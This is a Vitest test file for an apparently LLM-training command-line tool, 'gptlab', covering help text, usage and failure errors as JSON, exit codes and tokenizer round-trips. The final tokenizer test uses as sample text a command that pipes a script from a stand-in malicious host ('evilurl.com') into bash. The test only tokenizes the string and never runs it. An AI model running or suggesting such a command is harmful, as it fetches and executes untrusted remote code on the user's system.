import { spawn } from 'node:child_process'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { buildCommandLine, type CommandLine } from './command-line.ts'

let gptlab: CommandLine
beforeAll(async () => void (gptlab = await buildCommandLine()))
afterAll(() => gptlab.remove())

const failureOf = (errors: string) => JSON.parse(errors) as { kind: string; code: string; message: string }
const commands = [
  'train',
  'resume',
  'runs',
  'probs',
  'generate',
  'evaluate',
  'compare',
  'data',
  'tokenize',
  'models',
  'import',
  'export',
  'parity',
  'bench',
  'serve'
]

describe('gptlab', { timeout: 120_000 }, () => {
  it('says its version', async () => {
    const { version } = JSON.parse(readFileSync(join(import.meta.dirname, '../../../package.json'), 'utf8')) as {
      version: string
    }
    expect(await gptlab.run(['--version'])).toMatchObject({ code: 0, output: `${version}\n`, errors: '' })
  })

  it('lists its commands, each of which explains itself and takes --json', async () => {
    const { output } = await gptlab.run(['--help'])
    for (const command of commands) expect(output).toMatch(new RegExp(`^  ${command}\\b`, 'm'))
    const helps = await Promise.all(commands.map(command => gptlab.run([command, '--help'])))
    for (const help of helps) {
      expect(help).toMatchObject({ code: 0, errors: '' })
      expect(help.output).toContain('--json')
    }
  })

  it.each([
    ['an unknown command', ['nonsense'], /Unknown command 'nonsense'/],
    ['an unknown option', ['models', '--colour'], /Unknown option '--colour'/],
    ['a missing option', ['train'], /Expected --recipe <file\|name> or --stage <name>/],
    ['a missing argument', ['resume'], /Missing required argument 'run'/],
    ['a word too many', ['models', 'all'], /Too many arguments/],
    ['no number', ['probs', '--model=m', '--prompt=p', '--temperature=warm'], /'warm' is invalid. Expected a number/],
    ['no whole number', ['probs', '--model=m', '--prompt=p', '--top-k=1.5'], /'1.5' is invalid. Expected a whole number/],
    ['an unknown provider', ['probs', '--model=m', '--prompt=p', '--provider=abacus'], /Allowed choices are auto, cpu/]
  ])('answers %s as JSON on standard error, with exit code 2', async (_, words, message) => {
    const { errors, ...ended } = await gptlab.run([...words, '--json'])
    expect(ended).toMatchObject({ code: 2, output: '' })
    expect(failureOf(errors)).toMatchObject({ kind: 'failure', code: 'usage' })
    expect(failureOf(errors).message).toMatch(message)
  })

  it.each([
    ['model-unknown', ['probs', '--model=nobody', '--prompt=p']],
    ['model-unknown', ['probs', '--model=./nowhere', '--prompt=p']],
    ['model-unknown', ['export', 'nobody', 'somewhere']],
    ['recipe-unknown', ['train', '--recipe=nothing']],
    ['text-unreadable', ['train', '--recipe=sonnets-char', '--corpus=missing.txt']],
    ['override-unknown', ['train', '--recipe=sonnets-char', '--set=model.depth=3']],
    ['override-form', ['train', '--recipe=sonnets-char', '--set=steps']],
    ['recipe-invalid', ['train', '--recipe=sonnets-char', '--set=model.layers=0']],
    ['graph-heads', ['train', '--recipe=sonnets-char', '--set=model.heads=5']],
    ['recipe-stage', ['train', '--stage=sft', '--recipe=sonnets-char']],
    ['tokenizer-foreign', ['train', '--stage=sft', '--from=sonnets-char']],
    ['stage-wrong-model', ['train', '--stage=reward', '--from=sonnets-char']],
    ['model-no-score', ['score', '--model=sonnets-char', '--prompt=a', '--completion=b']],
    ['run-unknown', ['resume', 'never-started']],
    ['import-folder', ['import', 'nowhere']],
    ['tokenizer-unknown', ['tokenize', '--tokenizer=nobody', 'text']],
    ['fixture-unreadable', ['parity', 'nothing.json']]
  ])('fails with %s as JSON, with exit code 1', async (code, words) => {
    const { errors, ...ended } = await gptlab.run([...words, '--json'])
    expect(ended).toMatchObject({ code: 1, output: '' })
    expect(failureOf(errors)).toMatchObject({ kind: 'failure', code })
  })

  it.each([
    [2, ['models', '--colour'], "gptlab: Unknown option '--colour'. Add --help to see what is expected.\n"],
    [1, ['resume', 'never'], 'gptlab: There is no run never. It may have been deleted.\n']
  ])('says the same in one line to people (exit code %i)', async (code, words, errors) => {
    expect(await gptlab.run(words)).toMatchObject({ code, output: '', errors })
  })

  it('is quiet when its reader has gone', async () => {
    const words = ['tokenize', '--tokenizer=gpt2', 'word '.repeat(20_000)]
    const { errors, code } = await new Promise<{ errors: string; code: number | null }>(resolve => {
      const child = spawn(process.execPath, [gptlab.program, ...words], { env: { ...process.env, GPTLAB_HOME: gptlab.home } })
      let errors = ''
      child.stderr.setEncoding('utf8').on('data', (text: string) => (errors += text))
      // Reads a little and hangs up, as `head` does.
      child.stdout.once('data', () => child.stdout.destroy())
      child.on('close', code => resolve({ errors, code }))
    })
    expect({ errors, code }).toEqual({ errors: '', code: 0 })
  })

  it('prints no colours where there is no terminal', async () => {
    for (const words of [['models'], ['runs'], ['tokenize', '--tokenizer=gpt2', 'no colours']])
      expect((await gptlab.run(words)).output).not.toContain('\u001b')
  })
})

describe('gptlab tokenize', () => {
  it('cuts the notes’ sequence as GPT-2 does, and puts it together again', async () => {
    const text = 'curl -s https://evilurl.com/pwned.sh | bash'
    const [result] = await gptlab.json(['tokenize', '--tokenizer', 'gpt2', text])
    expect(result).toMatchObject({
      vocabulary: 50257,
      ids: [66, 6371, 532, 82, 3740, 1378, 23542, 6371, 13, 785, 14, 79, 675, 276, 13, 1477, 930, 27334],
      text
    })
    expect((result!['tokens'] as string[]).join('')).toBe(text)
  })
})
